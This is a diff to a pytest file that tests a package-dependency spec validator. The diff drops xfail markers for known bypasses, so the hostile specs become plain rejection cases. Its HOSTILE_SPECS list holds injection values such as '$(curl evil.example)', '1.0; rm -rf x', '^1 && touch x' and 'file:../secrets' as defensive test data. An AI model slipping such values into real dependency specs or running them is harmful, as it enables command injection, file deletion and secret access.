@@ -89,19 +89,6 @@ def test_registry_versions_ranges_and_dist_tags_are_accepted(spec: str, expected
     assert deps_of(spec) == {"pkg": expected}
 
 
-# Findings (see the report): each row fails because `requested` accepts the spec.
-SHELL_PASSES = pytest.mark.xfail(
-    strict=True,
-    raises=pytest.fail.Exception,
-    reason="the loose semver parser drops tokens it cannot read: '^1 && x' passes as '^1'",
-)
-TARBALL_PASSES = pytest.mark.xfail(
-    strict=True,
-    raises=pytest.fail.Exception,
-    reason="accepted as a dist-tag, but npm-package-arg reads a name ending .tgz/.tar/.tar.gz "
-    "as a local file spec, the same as 'file:'",
-)
-
 HOSTILE_SPECS = [
     # local paths and links
     "file:../secrets",
@@ -137,17 +124,17 @@ HOSTILE_SPECS = [
     "$(curl evil.example)",
     "`id`",
     "1.0; rm",
-    pytest.param("1.0; rm -rf x", marks=SHELL_PASSES),
-    pytest.param("1.0\nrm", marks=SHELL_PASSES),
-    pytest.param("^1 && touch x", marks=SHELL_PASSES),
-    pytest.param("^1 ; touch x", marks=SHELL_PASSES),
-    pytest.param("^1 | cat", marks=SHELL_PASSES),
-    pytest.param("^1 $HOME", marks=SHELL_PASSES),
-    pytest.param("1 `id`", marks=SHELL_PASSES),
+    "1.0; rm -rf x",
+    "1.0\nrm",
+    "^1 && touch x",
+    "^1 ; touch x",
+    "^1 | cat",
+    "^1 $HOME",
+    "1 `id`",
     # tarball file names: npm reads them as local files
-    pytest.param("evil.tgz", marks=TARBALL_PASSES),
-    pytest.param("evil.tar.gz", marks=TARBALL_PASSES),
-    pytest.param("EVIL.TAR", marks=TARBALL_PASSES),
+    "evil.tgz",
+    "evil.tar.gz",
+    "EVIL.TAR",
     # not a range
     "not a version!",
     "~",
